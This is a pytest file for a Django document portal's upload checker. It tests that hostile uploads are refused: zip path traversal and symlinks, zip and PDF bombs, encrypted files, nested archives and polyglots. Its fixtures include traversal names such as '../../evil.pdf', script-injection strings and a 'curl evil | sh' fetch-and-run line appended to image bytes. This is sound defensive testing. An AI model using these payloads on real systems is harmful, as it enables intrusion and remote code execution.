"""The bad-file corpus (SPEC §10): every file is judged by its content and structure, never by its name."""

import bz2
import gzip
import io
import os
import shutil
import socket
import struct
import subprocess
import tarfile
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from gdportal import pdfsandbox
from gdportal.uploads import JPEG, PDF, PNG, ZIP, LimitedUploadHandler, check_upload
from tests.conftest import IN_CI
from tests.files import (
    CATALOG,
    EXE,
    PAGE,
    PAGES,
    aes256_pdf_bytes,
    encrypted_pdf_bytes,
    jpeg_bytes,
    pdf_bomb,
    pdf_bytes,
    pdf_document,
    png_bytes,
    png_header_only,
    zip_bytes,
)

TECH = (PDF, ZIP)


def check(content, name="f.pdf", allowed=TECH, max_bytes=None):
    return check_upload(SimpleUploadedFile(name, content), allowed=allowed, max_bytes=max_bytes)


def refused(content, code, **kw):
    with pytest.raises(ValidationError) as exc:
        check(content, **kw)
    assert exc.value.code == code, exc.value
    return exc.value


def pt_br(error):
    with translation.override("pt-br"):
        return " ".join(error.messages)


def test_good_files_pass_with_their_hash():
    pdf = check(pdf_bytes())
    assert pdf.file_type == PDF and len(pdf.sha256) == 64
    assert (
        check(zip_bytes({"memorial.pdf": pdf_bytes(), "planta/situacao.pdf": pdf_bytes()})).file_type == ZIP
    )
    assert check(png_bytes(), name="rg.png", allowed=(PDF, JPEG, PNG)).file_type == PNG


def test_the_same_file_has_the_same_hash():
    assert check(pdf_bytes()).sha256 == check(pdf_bytes()).sha256


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (EXE, "type"),
        (b"", "empty"),
        (b"<html><script>alert(1)</script></html>", "type"),
        (b"%PDF-1.7\n this is not a pdf at all", "damaged"),
        (encrypted_pdf_bytes(), "encrypted"),
        (png_bytes(), "type"),  # an image where only PDF or ZIP is accepted
    ],
)
def test_bad_single_files(content, code):
    refused(content, code)


def test_truncated_png_is_refused():
    refused(png_bytes()[:40], "damaged", allowed=(PNG,))


def test_size_limit():
    refused(pdf_bytes() + b"%" * 2048, "too_large", max_bytes=1024)


def raw_zip(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buffer.getvalue()


def zinfo(name, mode=None):
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    if mode is not None:
        info.external_attr = mode << 16
    return info


@pytest.mark.parametrize(
    ("entries", "code"),
    [
        ([(zinfo("/etc/passwd"), b"x")], "path"),
        ([(zinfo("../../evil.pdf"), b"x")], "path"),
        ([(zinfo("docs/../../evil.pdf"), b"x")], "path"),
        ([(zinfo("docs\\evil.pdf"), b"x")], "path"),
        ([(zinfo("C:/evil.pdf"), b"x")], "path"),
        ([(zinfo("link", mode=0o120777), b"/etc/passwd")], "symlink"),
        ([(zinfo("inner.zip"), zip_bytes({"a.pdf": b"x"}))], "nested"),
        ([(zinfo("inner.rar"), b"Rar!")], "nested"),
        ([(zinfo(f"f{i}.pdf"), b"x") for i in range(201)], "entries"),
        ([(zinfo("bomb.pdf"), b"\0" * (2 * 1024 * 1024))], "ratio"),
    ],
)
def test_bad_archives(entries, code):
    refused(raw_zip(entries), code)


def test_entry_too_large_when_unpacked(monkeypatch):
    import gdportal.uploads as uploads

    monkeypatch.setattr(uploads, "ZIP_MAX_ENTRY_BYTES", 1000)
    refused(zip_bytes({"grande.pdf": os.urandom(2000)}), "entry_size")


def test_total_too_large_when_unpacked(monkeypatch):
    import gdportal.uploads as uploads

    monkeypatch.setattr(uploads, "ZIP_MAX_TOTAL_BYTES", 3000)
    refused(zip_bytes({f"p{i}.pdf": os.urandom(1000) for i in range(4)}), "total_size")


def test_encrypted_zip_is_refused():
    data = bytearray(zip_bytes({"a.pdf": pdf_bytes()}))
    # Set the "encrypted" flag bit in the central directory entry (what a password tool writes).
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 0x1
    refused(bytes(data), "encrypted")


def test_overlapping_entries_are_refused():
    """Two central-directory entries pointing at the same local file (the 'better zip bomb' trick)."""
    data = bytearray(zip_bytes({"a.pdf": b"A" * 50, "b.pdf": b"B" * 50}))
    central_a = data.find(b"PK\x01\x02")
    central_b = data.find(b"PK\x01\x02", central_a + 4)
    offset_a = data[central_a + 42 : central_a + 46]
    data[central_b + 42 : central_b + 46] = offset_a
    refused(bytes(data), "overlap")


def test_damaged_zip_is_refused():
    refused(b"PK\x03\x04" + os.urandom(200), "damaged")


def test_upload_handler_stops_buffering_past_the_limit(tmp_path, settings):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    handler = LimitedUploadHandler(max_bytes=1024)
    handler.new_file("file", "big.pdf", "application/pdf", 10_000_000)
    for start in range(0, 8 * 1024 * 1024, 64 * 1024):
        handler.receive_data_chunk(b"x" * 64 * 1024, start)
    uploaded = handler.file_complete(8 * 1024 * 1024)
    assert uploaded.oversized and uploaded.size == 8 * 1024 * 1024
    uploaded.file.seek(0, os.SEEK_END)
    assert uploaded.file.tell() <= 1024  # nothing past the limit was kept
    with pytest.raises(ValidationError) as exc:
        check_upload(uploaded, allowed=TECH, max_bytes=1024)
    assert exc.value.code == "too_large"


# --- Hostile PDFs (outside security test, item 8) --------------------------------------------------


def test_pdf_bomb_is_refused_within_the_limits_and_outside_the_web_process(settings):
    """60 KB that inflate to 60 MB of blanks in an object stream: 7 s of CPU and +123 MB in the web worker."""
    bomb = pdf_bomb()
    assert len(bomb) < 100_000
    started, cpu = time.monotonic(), time.process_time()
    error = refused(bomb, "pdf_limit")
    # GD_PDF_CPU_SECONDS (2 s) ends it on an idle machine; the wall-clock limit (5 s) on a busy one.
    assert time.monotonic() - started < settings.GD_PDF_TIMEOUT_SECONDS + 1
    assert time.process_time() - cpu < 1  # the parsing burnt the child's CPU, not this process's
    assert "complexo demais" in pt_br(error)


def test_pdf_past_pypdfs_own_decompression_limit_is_refused():
    refused(pdf_bomb(100_000_000), "pdf_limit")  # was LimitReachedError: a 500


def test_aes256_encrypted_pdf_is_refused():
    error = refused(aes256_pdf_bytes(), "encrypted")  # was DependencyError (no `cryptography`): a 500
    assert "protegido por senha" in pt_br(error)


def test_hand_made_pdf_with_an_object_stream_passes():
    """The same structure as the bomb without the blanks: object streams as such are fine."""
    pdf = pdf_document({1: CATALOG, 3: PAGE}, packed=(4, {2: PAGES}))
    assert check(pdf).file_type == PDF


def test_pdf_that_cannot_be_checked_now_is_refused_not_a_500(monkeypatch):
    def no_more_processes(*args, **kwargs):
        raise BlockingIOError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(pdfsandbox.subprocess, "Popen", no_more_processes)
    error = refused(pdf_bytes(), "unavailable")
    assert "tente novamente" in pt_br(error)


def test_any_unexpected_failure_in_a_check_is_a_refusal_not_a_500(monkeypatch):
    from gdportal import antivirus

    def dropped(fileobj):
        raise ConnectionResetError(104, "Connection reset by peer")  # clamd went away mid-stream

    monkeypatch.setattr(antivirus, "scan", dropped)
    refused(pdf_bytes(), "unavailable")
    refused(png_bytes(), "unavailable", allowed=(PNG,))


# --- Polyglots, archives inside archives, huge images (item 15) ------------------------------------


def zip_hidden_behind_eof():
    """A ZIP whose comment ends in "%%EOF": glued after a PDF, the PDF still ends in "%%EOF"."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("leia.js", b"alert(1)")
        archive.comment = b"\n%%EOF\n"
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "allowed"),
    [
        (pdf_bytes() + zip_bytes({"run.js": b"alert(1)"}), TECH),
        (pdf_bytes() + zip_hidden_behind_eof(), TECH),
        (pdf_bytes() + b"<html><script>alert(1)</script></html>", TECH),
        (jpeg_bytes() + b"<script>alert(1)</script>", (JPEG,)),
        (jpeg_bytes() + b"#!/bin/sh\ncurl evil | sh\n\xff\xd9", (JPEG,)),  # ends in an EOI of its own
        (jpeg_bytes() + jpeg_bytes() + b"<script>alert(1)</script>", (JPEG,)),
        (png_bytes() + b"#!/bin/sh\ncurl evil | sh\n", (PNG,)),
    ],
    ids=[
        "pdf+zip",
        "pdf+zip-comment-eof",
        "pdf+html",
        "jpeg+script",
        "jpeg+script+eoi",
        "jpeg+jpeg+script",
        "png+script",
    ],
)
def test_polyglots_are_refused(content, allowed):
    error = refused(content, "trailing", allowed=allowed)
    assert "dados extras" in pt_br(error)


def jpeg_with_thumbnail():
    """A camera JPEG: APP1 carries a thumbnail, itself a whole JPEG with its own end marker."""
    app1 = b"Exif\0\0" + jpeg_bytes()
    segment = b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    main = jpeg_bytes()
    return main[:2] + segment + main[2:]


@pytest.mark.parametrize(
    ("content", "allowed"),
    [
        (pdf_bytes() + b"\r\n\0\0", TECH),
        (jpeg_bytes(), (JPEG,)),
        (jpeg_bytes(progressive=True), (JPEG,)),
        (jpeg_with_thumbnail(), (JPEG,)),
        (jpeg_bytes() + b"\0" * 64, (JPEG,)),
        (jpeg_bytes() + jpeg_bytes(quality=30), (JPEG,)),  # a phone's gain or depth map after the photo
        (png_bytes() + b"\0\0", (PNG,)),
        (png_header_only(6000, 6000), (PNG,)),  # 36 megapixels: under the cap
    ],
    ids=[
        "pdf+padding",
        "jpeg",
        "progressive",
        "thumbnail",
        "jpeg+padding",
        "jpeg+gain-map",
        "png+padding",
        "png-36mp",
    ],
)
def test_ordinary_files_and_padding_pass(content, allowed):
    assert check(content, allowed=allowed).file_type in allowed


@pytest.mark.parametrize("side", [10_000, 20_000])
def test_huge_image_is_too_large_not_damaged(side):
    error = refused(png_header_only(side, side), "image_too_large", allowed=(PNG,))
    text = pt_br(error)
    assert "grande demais" in text and f"{side} × {side}" in text and "40 megapixels" in text


def test_huge_jpeg_is_too_large_also_behind_the_first_one():
    data = bytearray(jpeg_bytes())
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 12_000, 12_000)
    refused(bytes(data), "image_too_large", allowed=(JPEG,))
    refused(jpeg_bytes() + bytes(data), "image_too_large", allowed=(JPEG,))


def test_image_cap_is_a_setting(settings):
    settings.GD_IMAGE_MAX_PIXELS = 1000
    refused(png_bytes(), "image_too_large", allowed=(PNG,))  # 40 × 30 = 1200 pixels


def tar_bytes():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("memorial.pdf")
        data = pdf_bytes()
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("inner.pdf", zip_bytes({"a.pdf": pdf_bytes()})),
        ("scan.pdf", gzip.compress(pdf_bytes())),
        ("planta.pdf", bz2.compress(pdf_bytes())),
        ("foto.jpg", b"7z\xbc\xaf\x27\x1c" + os.urandom(200)),
        ("rg.png", b"Rar!\x1a\x07\x01\x00" + os.urandom(200)),
        ("memorial.pdf", tar_bytes()),
    ],
    ids=["zip", "gzip", "bzip2", "7z", "rar", "tar"],
)
def test_archive_inside_a_zip_is_found_by_its_content(name, content):
    error = refused(zip_bytes({name: content}), "nested")
    assert error.params["name"] == name


def test_zip_with_folders_and_an_empty_file_passes():
    entries = [
        (zinfo("planta/"), b""),
        (zinfo("planta/situacao.pdf"), pdf_bytes()),
        (zinfo("vazio.txt"), b""),
    ]
    assert check(raw_zip(entries)).file_type == ZIP


def test_zip_with_bzip2_entries_is_refused():
    """zipfile unpacks a bzip2 chunk whole: its first bytes cannot be read with a bound."""
    info = zipfile.ZipInfo("a.pdf")
    info.compress_type = zipfile.ZIP_BZIP2
    refused(raw_zip([(info, pdf_bytes())]), "method")


@pytest.fixture(scope="module")
def clamd(tmp_path_factory):
    """A real clamd with only our local test signature (no signature download is possible here)."""
    binary = shutil.which("clamd") or ("/usr/sbin/clamd" if os.path.exists("/usr/sbin/clamd") else None)
    if binary is None:
        if IN_CI:
            pytest.fail("clamd is required in CI (apt-get install clamav-daemon)")
        pytest.skip("clamd not installed")
    folder = tmp_path_factory.mktemp("clamd")
    (folder / "db").mkdir()
    marker = b"GDPORTAL-TEST-SIGNATURE-2026"
    (folder / "db" / "gdportal.ndb").write_text(f"GDPortal.Test.Signature:0:*:{marker.hex()}\n")
    sock = folder / "clamd.sock"
    (folder / "clamd.conf").write_text(
        f"LocalSocket {sock}\nDatabaseDirectory {folder / 'db'}\nForeground yes\nLogFile {folder / 'log'}\n"
    )
    process = subprocess.Popen(
        [binary, "-c", str(folder / "clamd.conf")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if sock.exists():
            try:
                with socket.socket(socket.AF_UNIX) as probe:
                    probe.connect(str(sock))
                break
            except OSError:
                pass
        time.sleep(0.2)
    else:
        process.kill()
        pytest.fail("clamd did not start")
    yield str(sock), marker
    process.terminate()
    process.wait(timeout=30)


def test_antivirus_refuses_a_file_with_the_local_signature(clamd, monkeypatch):
    sock, marker = clamd
    monkeypatch.setenv("CLAMAV_SOCKET", sock)
    # A comment line just before "startxref": inside the PDF, so no trailing-data refusal comes first.
    infected = pdf_bytes().replace(b"startxref", b"%" + marker + b"\nstartxref")
    error = refused(infected, "virus")
    assert "GDPortal.Test.Signature" in str(error.params["name"])
    assert check(pdf_bytes()).file_type == PDF  # clean files pass through the same clamd


def test_configured_but_unreachable_antivirus_fails_closed(monkeypatch, tmp_path):
    monkeypatch.setenv("CLAMAV_SOCKET", str(tmp_path / "missing.sock"))
    refused(pdf_bytes(), "antivirus_down")
